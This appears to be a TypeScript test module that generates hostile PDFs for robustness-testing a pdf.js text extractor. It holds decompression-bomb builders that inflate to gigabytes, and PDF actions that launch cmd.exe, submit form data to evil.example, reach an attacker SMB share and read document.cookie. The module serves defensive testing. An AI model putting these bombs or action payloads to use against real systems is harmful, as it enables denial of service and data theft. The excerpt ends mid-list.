// Malformed and hostile PDFs, generated deterministically (the same bytes on
// every run): truncations and byte flips of a real council PDF, and hand-built
// files with looped or deep page trees, absurd page boxes, broken xref tables
// and trailers, bad fonts, huge or bomb-like content streams, deep nesting,
// JavaScript, Launch and other actions, encryption, and decompression bombs
// (streams and images that inflate to gigabytes through every filter pdf.js
// has, made without ever holding the inflated bytes).
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';

export interface HostilePdf {
  name: string;
  kind: string;
  bytes: Uint8Array;
}

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
/** A real PDF of the sample meetings: a few pages of text with embedded fonts. */
export const REAL_PDF = path.join(repo, 'resources/sample/2017-01-09-raadsplein-info-debat/documenten/voorblad-2017-01-09-rekenkameronderzoek-schulddienstverlening.pdf');

/** Deterministic bytes: SHA-256 of a seed and a counter, so the byte flips are the same on every run. */
function seededBytes(seed: string): () => number {
  let counter = 0;
  let block = Buffer.alloc(0);
  let at = 0;
  return () => {
    if (at + 4 > block.length) {
      block = createHash('sha256').update(`${seed}:${counter++}`).digest();
      at = 0;
    }
    const value = block.readUInt32BE(at) / 4294967296;
    at += 4;
    return value;
  };
}

type Body = string | Buffer;

/**
 * A PDF from numbered object bodies (object n is bodies[n-1]), with a correct
 * xref table unless `xref` says otherwise, and `trailer` as the trailer dict.
 */
const PDF_HEAD = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
const objectChunk = (num: number, body: Body) =>
  Buffer.concat([Buffer.from(`${num} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);

export function buildPdf(bodies: Body[], options: { trailer?: string; xref?: 'ok' | 'none' | 'wrong-offsets'; startxref?: number | 'ok' } = {}): Buffer {
  const parts: Buffer[] = [PDF_HEAD];
  let length = PDF_HEAD.length;
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    offsets.push(length);
    const chunk = objectChunk(i + 1, body);
    parts.push(chunk);
    length += chunk.length;
  });
  const xrefAt = length;
  const mode = options.xref ?? 'ok';
  if (mode !== 'none') {
    const shift = mode === 'wrong-offsets' ? 7 : 0;
    const rows = offsets.map((o) => `${String(o + shift).padStart(10, '0')} 00000 n \n`).join('');
    parts.push(Buffer.from(`xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows}`, 'latin1'));
  }
  const trailer = options.trailer ?? `<< /Size ${bodies.length + 1} /Root 1 0 R >>`;
  const startxref = options.startxref === undefined || options.startxref === 'ok' ? xrefAt : options.startxref;
  parts.push(Buffer.from(`trailer\n${trailer}\nstartxref\n${startxref}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const stream = (dict: string, data: Buffer | string) => {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1');
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')]);
};
const TEXT = 'BT /F1 12 Tf 72 720 Td (Raadsvoorstel schulddienstverlening) Tj ET';
const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Catalog (1), Pages (2), one Page (3) with `page` extra keys, content (4), font (5), then `extra` objects from 6. */
function onePage(options: { catalog?: string; pages?: string; page?: string; content?: Body; font?: string; extra?: Body[]; mediaBox?: string } = {}): Buffer {
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
    options.pages ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${options.mediaBox ?? '[0 0 595 842]'} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${options.page ?? ''} >>`,
    options.content === undefined ? stream('', TEXT) : options.content,
    options.font ?? HELVETICA,
    ...(options.extra ?? []),
  ]);
}

function truncations(real: Buffer): HostilePdf[] {
  const out: HostilePdf[] = [];
  const cuts = 80;
  for (let i = 0; i < cuts; i++) {
    // Spread over the file, denser near the start (header, first objects) and the end (xref, trailer).
    const fraction = i < 20 ? i / 400 : i < 60 ? (i - 20) / 40 : 1 - (80 - i) / 400;
    const at = Math.max(1, Math.min(real.length - 1, Math.floor(real.length * fraction)));
    out.push({ name: `truncated-${i}-at-${at}`, kind: 'truncated', bytes: real.subarray(0, at) });
  }
  return out;
}

function byteFlips(real: Buffer): HostilePdf[] {
  const random = seededBytes('raadsmap-hostile-2017-01-09');
  const out: HostilePdf[] = [];
  for (let i = 0; i < 60; i++) {
    const copy = Buffer.from(real);
    const flips = 1 + Math.floor(random() * (i < 30 ? 4 : 64));
    for (let f = 0; f < flips; f++) copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
    out.push({ name: `byte-flips-${i}-${flips}`, kind: 'byte-flips', bytes: copy });
  }
  return out;
}

function pageTrees(): HostilePdf[] {
  const cases: Array<[string, Buffer]> = [
    ['kids-self', onePage({ pages: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' })],
    ['kids-ancestor', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 2 >>', '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 4 0 R] /Count 2 >>', '<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>'])],
    ['two-cycle', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'])],
    ['page-is-catalog', buildPdf(['<< /Type /Catalog /Pages 1 0 R >>'])],
    ['count-huge', onePage({ pages: '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>' })],
    ['count-negative', onePage({ pages: '<< /Type /Pages /Kids [3 0 R] /Count -5 >>' })],
    ['kids-missing', onePage({ pages: '<< /Type /Pages /Count 1 >>' })],
    ['kids-not-array', onePage({ pages: '<< /Type /Pages /Kids 3 0 R /Count 1 >>' })],
    ['kids-dangling', onePage({ pages: '<< /Type /Pages /Kids [99 0 R] /Count 1 >>' })],
    ['kid-repeated-thousand-times', onePage({ pages: `<< /Type /Pages /Kids [${'3 0 R '.repeat(1000)}] /Count 1000 >>` })],
    ['no-pages', buildPdf(['<< /Type /Catalog >>'])],
  ];
  // 400 levels of /Pages, each with one kid.
  const deep: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  for (let level = 0; level < 400; level++) deep.push(`<< /Type /Pages /Kids [${level + 3} 0 R] /Count 1 >>`);
  deep.push('<< /Type /Page /MediaBox [0 0 595 842] >>');
  cases.push(['pages-400-deep', buildPdf(deep)]);
  return cases.map(([name, bytes]) => ({ name: `page-tree-${name}`, kind: 'page-tree', bytes }));
}

function pageBoxes(): HostilePdf[] {
  const boxes: Array<[string, string]> = [
    ['1e9', '[0 0 1000000000 1000000000]'],
    ['1e30', '[0 0 1e30 1e30]'],
    ['negative', '[0 0 -595 -842]'],
    ['zero', '[0 0 0 0]'],
    ['inverted', '[595 842 0 0]'],
    ['not-numbers', '[(a) (b) (c) (d)]'],
    ['too-short', '[0 0]'],
    ['huge-array', `[${'1 '.repeat(100000)}]`],
    ['reference-loop', '3 0 R'],
    ['missing', 'null'],
  ];
  return [
    ...boxes.map(([name, box]) => ({ name: `mediabox-${name}`, kind: 'page-box', bytes: onePage({ mediaBox: box }) })),
    { name: 'userunit-huge', kind: 'page-box', bytes: onePage({ page: '/UserUnit 1000000' }) },
    { name: 'rotate-odd', kind: 'page-box', bytes: onePage({ page: '/Rotate 45' }) },
    { name: 'cropbox-outside', kind: 'page-box', bytes: onePage({ page: '/CropBox [-1e9 -1e9 1e9 1e9]' }) },
  ];
}

function xrefAndTrailer(): HostilePdf[] {
  const cases: Array<[string, Buffer]> = [
    ['no-xref', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'], { xref: 'none' })],
    ['wrong-offsets', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'], { xref: 'wrong-offsets' })],
    ['startxref-past-eof', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { startxref: 99999999 })],
    ['startxref-negative', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { startxref: -20 })],
    ['trailer-no-root', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { trailer: '<< /Size 3 >>' })],
    ['root-dangling', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>'], { trailer: '<< /Size 2 /Root 77 0 R >>' })],
    ['root-is-number', buildPdf(['<< /Type /Catalog >>'], { trailer: '<< /Size 2 /Root 5 >>' })],
    ['prev-self', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { trailer: '<< /Size 3 /Root 1 0 R /Prev 9 >>' })],
    ['size-huge', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], { trailer: '<< /Size 2147483647 /Root 1 0 R >>' })],
    ['trailer-garbage', buildPdf(['<< /Type /Catalog >>'], { trailer: '<< /Root << << << [ ( >>' })],
    ['only-header', Buffer.from('%PDF-1.7\n')],
    ['empty-after-header', Buffer.from('%PDF-1.7\n%%EOF\n')],
    ['not-a-pdf', Buffer.from('<html><script>alert(1)</script></html>')],
    ['xref-stream-garbage', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', stream('/Type /XRef /W [1 2 1] /Size 3', Buffer.alloc(40, 0xff))], { xref: 'none', startxref: 20 })],
  ];
  return cases.map(([name, bytes]) => ({ name: `xref-${name}`, kind: 'xref-trailer', bytes }));
}

function fonts(): HostilePdf[] {
  const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256));
  const descriptor = (file: string) => `<< /Type /FontDescriptor /FontName /Bad /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 ${file} >>`;
  const cases: Array<[string, Buffer]> = [
    ['truetype-garbage', onePage({ font: '<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R >>', extra: [descriptor('/FontFile2 7 0 R'), stream('', garbage)] })],
    ['type1-garbage', onePage({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Bad /FontDescriptor 6 0 R >>', extra: [descriptor('/FontFile 7 0 R'), stream('/Length1 10 /Length2 4000 /Length3 0', garbage)] })],
    ['cff-garbage', onePage({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Bad /FontDescriptor 6 0 R >>', extra: [descriptor('/FontFile3 7 0 R'), stream('/Subtype /Type1C', garbage)] })],
    ['opentype-garbage', onePage({ font: '<< /Type /Font /Subtype /Type0 /BaseFont /Bad /Encoding /Identity-H /DescendantFonts [6 0 R] >>', extra: ['<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Bad /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 7 0 R >>', descriptor('/FontFile3 8 0 R'), stream('/Subtype /OpenType', garbage)] })],
    ['fontfile-missing', onePage({ font: '<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FontDescriptor 6 0 R >>', extra: [descriptor('/FontFile2 99 0 R')] })],
    ['font-missing', onePage({ font: 'null' })],
    ['font-is-self', onePage({ font: '5 0 R' })],
    ['subtype-unknown', onePage({ font: '<< /Type /Font /Subtype /Nonsense /BaseFont /X >>' })],
    ['widths-huge', onePage({ font: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /LastChar 2000000000 /Widths [${'1e30 '.repeat(1000)}] >>` })],
    ['encoding-garbage', onePage({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [ -5 /a (x) 1e30 /b ] >> >>' })],
    ['tounicode-garbage', onePage({ font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>', extra: [stream('', 'begincmap 1 beginbfrange <00> <FFFFFFFF> <0000> endbfrange endcmap '.repeat(50))] })],
    ['type3-recursive', onePage({ font: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] /Resources << /Font << /F1 5 0 R >> >> >>', content: stream('', 'BT /F1 12 Tf (aaaa) Tj ET'), extra: [stream('', '1000 0 d0 BT /F1 12 Tf (a) Tj ET')] })],
    ['cid-encoding-bad', onePage({ font: '<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /No-Such-CMap /DescendantFonts [] >>' })],
  ];
  return cases.map(([name, bytes]) => ({ name: `font-${name}`, kind: 'font', bytes }));
}

function contentStreams(): HostilePdf[] {
  const cases: Array<[string, Buffer]> = [
    ['50k-paths', onePage({ content: stream('', '0 0 m 1 1 l S\n'.repeat(50_000)) })],
    ['20k-text-ops', onePage({ content: stream('', `BT /F1 1 Tf ${'(Raad) Tj 0 -1 Td '.repeat(20_000)}ET`) })],
    ['q-nesting-5k', onePage({ content: stream('', `${'q '.repeat(5_000)}${TEXT}`) })],
    // pdf.js's text extraction is quadratic in unbalanced `q`: 20k take 18 s, 100k would take minutes. The pool's time limit stops it.
    ['q-nesting-100k', onePage({ content: stream('', `${'q '.repeat(100_000)}${TEXT}`) })],
    ['length-wrong', onePage({ content: Buffer.from(`<< /Length 999999 >>\nstream\n${TEXT}\nendstream`, 'latin1') })],
    ['flate-garbage', onePage({ content: stream('/Filter /FlateDecode', Buffer.from('this is not deflate data at all'.repeat(10))) })],
    ['flate-bomb-64mb', onePage({ content: stream('/Filter /FlateDecode', zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 })) })],
    ['filter-chain-100', onePage({ content: stream(`/Filter [${'/ASCIIHexDecode '.repeat(100)}]`, TEXT) })],
    ['filter-unknown', onePage({ content: stream('/Filter /NoSuchDecode', TEXT) })],
    ['operators-garbage', onePage({ content: stream('', Buffer.from(Array.from({ length: 20000 }, (_, i) => 33 + ((i * 31) % 90)))) })],
    ['inline-image-huge', onePage({ content: stream('', 'BI /W 100000 /H 100000 /BPC 8 /CS /RGB ID \x00\x00\x00 EI') })],
    ['xobject-self', onePage({ page: '/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>', content: stream('', '/X Do'), extra: [stream('/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X 6 0 R >> >>', '/X Do')] })],
    ['image-huge-dims', onePage({ page: '/Resources << /XObject << /I 6 0 R >> >>', content: stream('', 'q 100 0 0 100 0 0 cm /I Do Q'), extra: [stream('/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /ColorSpace /DeviceRGB /BitsPerComponent 8', 'abc')] })],
    ['contents-array-dangling', onePage({ page: '/Contents [4 0 R 98 0 R 99 0 R]' })],
  ];
  return cases.map(([name, bytes]) => ({ name: `content-${name}`, kind: 'content', bytes }));
}

function nesting(): HostilePdf[] {
  return [
    { name: 'nesting-array-10k', kind: 'nesting', bytes: onePage({ catalog: `/Deep ${'['.repeat(10_000)}${']'.repeat(10_000)}` }) },
    { name: 'nesting-dict-5k', kind: 'nesting', bytes: onePage({ catalog: `/Deep ${'<< /A '.repeat(5000)}1${' >>'.repeat(5000)}` }) },
    { name: 'nesting-unclosed-array', kind: 'nesting', bytes: onePage({ catalog: `/Deep ${'['.repeat(50_000)}` }) },
    { name: 'nesting-outline-loop', kind: 'nesting', bytes: onePage({ catalog: '/Outlines 6 0 R', extra: ['<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>', '<< /Title (Lus) /Parent 6 0 R /Next 7 0 R /Prev 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>'] }) },
    { name: 'nesting-names-loop', kind: 'nesting', bytes: onePage({ catalog: '/Names << /Dests 6 0 R >>', extra: ['<< /Kids [6 0 R] >>'] }) },
  ];
}

function actions(): HostilePdf[] {
  const js = "app.alert('Raadsmap'); this.exportDataObject({cName: 'x', nLaunch: 2});";
  const annot = (action: string) => onePage({ page: '/Annots [6 0 R]', extra: [`<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A ${action} >>`] });
  const cases: Array<[string, Buffer]> = [
    ['openaction-js', onePage({ catalog: `/OpenAction << /S /JavaScript /JS (${js}) >>` })],
    ['openaction-js-stream', onePage({ catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>', extra: [stream('', js)] })],
    ['catalog-aa-js', onePage({ catalog: `/AA << /WC << /S /JavaScript /JS (${js}) >> /WP << /S /JavaScript /JS (${js}) >> >>` })],
    ['names-javascript', onePage({ catalog: `/Names << /JavaScript << /Names [(boot) << /S /JavaScript /JS (${js}) >>] >> >>` })],
    ['page-aa-js', onePage({ page: `/AA << /O << /S /JavaScript /JS (${js}) >> >>` })],
    ['link-js', annot(`<< /S /JavaScript /JS (${js}) >>`)],
    ['link-uri-javascript', annot('<< /S /URI /URI (javascript:alert(document.cookie)) >>')],
    ['link-launch', annot('<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>')],
    ['openaction-launch', onePage({ catalog: '/OpenAction << /S /Launch /F (/usr/bin/xterm) /NewWindow true >>' })],
    ['link-gotor', annot('<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>')],
    ['link-submitform', annot('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/steal) >> /Flags 4 >>')],
    ['link-importdata', annot('<< /S /ImportData /F (secrets.fdf) >>')],
    ['link-action-chain-loop', onePage({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 7 0 R >>', '<< /S /JavaScript /JS (1) /Next 7 0 R >>'] })],
    ['acroform-xfa-js', onePage({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [stream('', `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">${js}</script></template></xdp:xdp>`)] })],
    ['widget-calculate-js', onePage({ page: '/Annots [6 0 R]', catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true >>', extra: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (veld) /Rect [72 600 300 620] /AA << /C << /S /JavaScript /JS (${js}) >> /K << /S /JavaScript /JS (${js}) >> >> >>`] })],
    ['richmedia-embedded-file', onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>] >> >>', extra: [stream('/Type /EmbeddedFile', 'MZ\x90\x00')] })],
  ];
  return cases.map(([name, bytes]) => ({ name: `action-${name}`, kind: 'action', bytes }));
}

function encrypted(): HostilePdf[] {
  const hex = (seed: number, n: number) => Array.from({ length: n }, (_, i) => ((i * 37 + seed * 11) % 256).toString(16).padStart(2, '0')).join('');
  const enc = (dict: string) => buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', stream('', 'garbled'), dict], { trailer: `<< /Size 6 /Root 1 0 R /Encrypt 5 0 R /ID [<${hex(1, 16)}> <${hex(1, 16)}>] >>` });
  const cases: Array<[string, Buffer]> = [
    ['rc4-40', enc(`<< /Filter /Standard /V 1 /R 2 /O <${hex(2, 32)}> /U <${hex(3, 32)}> /P -4 >>`)],
    ['rc4-128', enc(`<< /Filter /Standard /V 2 /R 3 /Length 128 /O <${hex(4, 32)}> /U <${hex(5, 32)}> /P -3904 >>`)],
    ['aes-128', enc(`<< /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /Length 16 /AuthEvent /DocOpen >> >> /StmF /StdCF /StrF /StdCF /O <${hex(6, 32)}> /U <${hex(7, 32)}> /P -4 >>`)],
    ['aes-256', enc(`<< /Filter /Standard /V 5 /R 6 /Length 256 /CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF /O <${hex(8, 48)}> /U <${hex(9, 48)}> /OE <${hex(10, 32)}> /UE <${hex(11, 32)}> /Perms <${hex(12, 16)}> /P -4 >>`)],
    ['unknown-handler', enc('<< /Filter /NoSuchSecurity /V 9 /R 9 >>')],
    ['encrypt-garbage', enc('<< /Filter /Standard /V (x) /R [1] /O 5 /U null >>')],
  ];
  return cases.map(([name, bytes]) => ({ name: `encrypted-${name}`, kind: 'encrypted', bytes }));
}

// ---- Decompression bombs ----------------------------------------------------

const MiB = 1024 * 1024;
/** What the bombs of the suite inflate to: sixteen times the extraction's limit (decode-budget.ts). */
export const BOMB_BYTES = 1024 * MiB;
const ZERO_BLOCK = 64 * MiB;
let deflatedZeroBlock: Buffer | undefined;

/**
 * 64 MiB of zeros as raw deflate ending on a full flush: byte-aligned and
 * without references before its start, so copies of it can follow each other.
 */
function zeroBlock(): Buffer {
  return (deflatedZeroBlock ??= zlib.deflateRawSync(Buffer.alloc(ZERO_BLOCK), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH }));
}

/** Adler-32 (zlib's checksum) of `bytes`, going on from `state`. */
function adler32(bytes: Uint8Array, state = 1): number {
  let a = state & 0xffff;
  let b = state >>> 16;
  for (const byte of bytes) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

/** Adler-32 after `n` more zero bytes: `a` stays, `b` grows by `a` for each. */
const adler32OfZeros = (n: number, state: number) => (((((state >>> 16) + (n % 65521) * (state & 0xffff)) % 65521) << 16) | (state & 0xffff)) >>> 0;

/**
 * A zlib (FlateDecode) stream that inflates to `prefix`, then `zeros` zero
 * bytes (a multiple of 64 MiB), then `suffix`: about 1 KB per MB inflated.
 */
export function zlibBomb(zeros: number, prefix: Buffer = Buffer.alloc(0), suffix: Buffer = Buffer.alloc(0)): Buffer {
  if (zeros % ZERO_BLOCK !== 0) throw new RangeError(`zeros must be a multiple of ${ZERO_BLOCK}`);
  const parts: Buffer[] = [Buffer.from([0x78, 0xda])];
  if (prefix.length > 0) parts.push(zlib.deflateRawSync(prefix, { finishFlush: zlib.constants.Z_FULL_FLUSH }));
  for (let i = 0; i < zeros / ZERO_BLOCK; i++) parts.push(zeroBlock());
  parts.push(zlib.deflateRawSync(suffix)); // the final block
  const check = Buffer.alloc(4);
  check.writeUInt32BE(adler32(suffix, adler32OfZeros(zeros, adler32(prefix))));
  parts.push(check);
  return Buffer.concat(parts);
}

/** Bits written most significant first, as LZW and CCITT read them. */
function bitWriter() {
  const bytes: number[] = [];
  let current = 0;
  let used = 0;
  return {
    write(value: number, width: number) {
      for (let bit = width - 1; bit >= 0; bit--) {
        current = (current << 1) | ((value >> bit) & 1);
        if (++used === 8) {
          bytes.push(current);
          current = 0;
          used = 0;
        }
      }
    },
    bytes: () => Buffer.from(used === 0 ? bytes : [...bytes, current << (8 - used)]),
  };
}

/**
 * LZWDecode codes for `total` zero bytes (EarlyChange 1): each new code one
 * zero longer than the last up to the full table (4,096 codes), then the
 * longest (3,839 zeros) again and again, 12 bits each.
 */
export function lzwBomb(total: number): Buffer {
  const out = bitWriter();
  let codeLength = 9;
  let nextCode = 258;
  let written = 0;
  let length = 0;
  const emit = (code: number) => {
    out.write(code, codeLength);
    length = code < 256 ? 1 : code === nextCode ? length + 1 : code - 256;
    written += length;
    if (written > 1) {
      // The decoder adds an entry for every code after the first, and widens its codes as nextCode + 1 reaches a power of two.
      nextCode++;
      if (((nextCode + 1) & nextCode) === 0) codeLength = Math.min(Math.log2(nextCode + 1) + 1, 12);
    }
  };
  emit(0);
  for (let code = 258; code < 4096 && written < total; code++) emit(code);
  while (written < total) emit(4095);
  out.write(257, codeLength); // end of data
  return out.bytes();
}

/** CCITTFaxDecode (K -1, group 4) rows of `columns` white pixels: one bit a row (V0: as the row above). */
export function ccittBomb(rows: number): Buffer {
  return Buffer.alloc(Math.ceil(rows / 8), 0xff);
}

/** RunLengthDecode runs of 128 zeros: two bytes each. */
export const runLengthBomb = (total: number) => Buffer.alloc(2 * Math.ceil(total / 128), Buffer.from([0x81, 0x00]));

const brotliBomb = (total: number) =>
  zlib.brotliCompressSync(Buffer.alloc(total), { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 1, [zlib.constants.BROTLI_PARAM_SIZE_HINT]: total } });

/** A baseline JPEG (DCTDecode) header for a `size` × `size` grey image, then a little scan data. */
function jpegOfSize(size: number): Buffer {
  const segment = (marker: number, body: number[]) => [0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body];
  const huffman = (tableClass: number) => [tableClass << 4, 1, ...new Array<number>(15).fill(0), 0]; // one 1-bit code: symbol 0
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    Buffer.from(segment(0xdb, [0, ...new Array<number>(64).fill(1)])),
    Buffer.from(segment(0xc0, [8, size >> 8, size & 0xff, size >> 8, size & 0xff, 1, 1, 0x11, 0])),
    Buffer.from(segment(0xc4, huffman(0))),
    Buffer.from(segment(0xc4, huffman(1))),
    Buffer.from(segment(0xda, [1, 1, 0, 0, 63, 0])),
    Buffer.alloc(4096), // every block: DC difference 0, then end of block
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A JPEG 2000 codestream (JPXDecode) whose SIZ marker declares a `size` × `size` image. */
function jpxOfSize(size: number): Buffer {
  const u16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];
  const u32 = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];
  const siz = [0xff, 0x51, ...u16(41), ...u16(0), ...u32(size), ...u32(size), ...u32(0), ...u32(0), ...u32(size), ...u32(size), ...u32(0), ...u32(0), ...u16(1), 7, 1, 1];
  const cod = [0xff, 0x52, ...u16(12), 0, 0, ...u16(1), 0, 5, 4, 4, 0, 0];
  const qcd = [0xff, 0x5c, ...u16(4), 0x40, 0x40];
  const sot = [0xff, 0x90, ...u16(10), ...u16(0), ...u32(14 + 2 + 16), 0, 1];
  return Buffer.from([0xff, 0x4f, ...siz, ...cod, ...qcd, ...sot, 0xff, 0x93, ...new Array<number>(16).fill(0), 0xff, 0xd9]);
}

/** An embedded JBIG2 stream (JBIG2Decode): a page of `size` × `size` pixels and a generic region that fills it. */
function jbig2OfSize(size: number): Buffer {
  const u32 = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];
  const header = (number: number, type: number, length: number) => [...u32(number), type, 0, 1, ...u32(length)];
  const pageInfo = [...u32(size), ...u32(size), ...u32(0), ...u32(0), 0, 0, 0];
  const region = [...u32(size), ...u32(size), ...u32(0), ...u32(0), 0, 1, ...new Array<number>(64).fill(0)]; // MMR coded
  return Buffer.from([...header(0, 48, pageInfo.length), ...pageInfo, ...header(1, 38, region.length), ...region]);
}

const flate = (data: Buffer) => zlib.deflateSync(data, { level: 9 });

/**
 * Streams that inflate to gigabytes where text extraction reads them: the
 * page's content through every decoding filter, a form XObject, a font file,
 * a ToUnicode CMap, an object stream holding the catalog, and the XMP
 * metadata.
 * The `stream-bomb-flate-2gib` is the 4 KB file of the issue: two layers of
 * Flate, 2 GiB inside.
 */
export function streamBombs(): HostilePdf[] {
  const page = (dict: string, data: Buffer) => onePage({ content: stream(dict, data) });
  const form = (dict: string, data: Buffer) =>
    onePage({ page: '/Resources << /XObject << /X 6 0 R >> /Font << /F1 5 0 R >> >>', content: stream('', `${TEXT} /X Do`), extra: [stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${dict}`, data)] });
  const cases: Array<[string, Buffer]> = [
    ['flate-2gib', page('/Filter [/FlateDecode /FlateDecode]', flate(zlibBomb(2048 * MiB)))],
    ['flate', page('/Filter /FlateDecode', zlibBomb(BOMB_BYTES))],
    ['flate-predictor', page('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1023 >>', zlibBomb(BOMB_BYTES))],
    ['lzw', page('/Filter [/FlateDecode /LZWDecode]', flate(lzwBomb(BOMB_BYTES)))],
    ['runlength', page('/Filter [/FlateDecode /RunLengthDecode]', flate(runLengthBomb(BOMB_BYTES)))],
    ['brotli', page('/Filter /BrotliDecode', brotliBomb(BOMB_BYTES / 2))],
    ['asciihex-flate', page('/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from(zlibBomb(BOMB_BYTES).toString('hex')))],
    ['contents-array', onePage({ page: '/Contents [4 0 R 6 0 R 7 0 R 8 0 R]', extra: [6, 7, 8].map(() => stream('/Filter /FlateDecode', zlibBomb(64 * MiB))) })],
    ['form-xobject', form('/Filter /FlateDecode', zlibBomb(BOMB_BYTES))],
